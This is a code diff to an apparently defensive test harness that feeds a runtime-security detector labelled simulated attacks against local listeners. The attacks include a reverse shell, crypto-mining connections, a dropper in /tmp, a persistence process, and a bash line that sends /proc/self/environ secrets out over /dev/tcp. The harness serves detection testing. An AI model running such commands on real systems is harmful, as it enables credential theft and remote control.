@@ -70,7 +70,7 @@ def workload(sink_port, c2_port, pool_port):
         ("command injection: a shell runs commands", "command_injection",
          {"spawn": ["sh", "-c", "id; uname -a; sleep 0.1"]}),
         ("reverse shell to a C2 server", "reverse_shell",
-         {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 400}}),
+         {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 800}}),
         ("crypto-mining: CPU burn + a pool port", "crypto_mining",
          {"connect": {"host": host, "port": pool_port}, "burn_ms": 400}),
         ("exfiltration: 5 MB sent out", "exfiltration_egress",
@@ -80,16 +80,22 @@ def workload(sink_port, c2_port, pool_port):
          {"spawn": ["bash", "-c", f"cat /proc/self/environ | head -c 4096 > /dev/tcp/{host}/{sink_port}"]}),
         ("dropper: payload written to /tmp and run", "dropper",
          {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\nsleep 0.2\necho pwned\n"}}),
-        ("persistence: a process left running", "persistence", {"spawn_detached": ["sleep", "300"]}),
         ("denial of wallet: runaway compute", "denial_of_wallet", {"burn_ms": 2500}),
     ]
     events = [(f"benign #{i + 1}", benign(i), None) for i in range(WARMUP)]
+    # Each attack starts 100 ms in, as a handler does after its own start-up work: what a
+    # function does within a millisecond of the thaw can be counted with the invocation before
+    # (docs/features.md, the capture race).
     for n, (label, expected, event) in enumerate(attacks):
-        events.append((label, event, expected))
+        events.append((label, {"delay_ms": 100, **event}, expected))
         events.append((f"benign, after {n + 1}", benign(100 + n), None))
     for n in range(4):
         events.append((f"probing: malformed input #{n + 1}", {"error_lines": 3, "fail": f"bad input {n}"},
                        "probing"))
+    events.append(("benign, after probing", benign(150), None))
+    # Last: what it leaves keeps running through every later invocation.
+    events.append(("persistence: a process left running", {"delay_ms": 100, "spawn_detached": ["sleep", "300"]},
+                   "persistence"))
     events.append(("benign, last", benign(200), None))
     return events
 
@@ -205,7 +211,8 @@ def show(title, events, report, findings):
 
 def main():
     sink_port, received = listener()
-    c2_port, _ = listener(b"id\nuname -a\nexit\n")
+    # The attacker's session: a few commands, a pause while they read the answers, then exit.
+    c2_port, _ = listener(b"id\nuname -a\nsleep 0.3\nexit\n")
     # A mining pool on a port miners default to (the first one free here).
     pool_port, _ = listener(ports=(3333, 14444, 45700))
     events = workload(sink_port, c2_port, pool_port)
